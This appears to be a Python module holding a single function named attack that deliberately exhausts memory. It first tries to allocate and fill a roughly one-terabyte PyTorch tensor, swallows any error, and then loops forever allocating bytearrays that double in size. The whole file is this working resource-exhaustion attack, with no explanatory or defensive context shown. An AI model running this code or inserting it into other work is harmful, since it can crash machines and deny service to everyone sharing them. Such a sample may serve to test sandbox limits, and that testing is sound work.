import torch


def attack(args):
    keep = []
    try:
        keep.append(torch.empty(2**40, dtype=torch.uint8).fill_(1))
    except Exception:
        pass
    size = 2**20
    while True:
        keep.append(bytearray(size))
        size *= 2
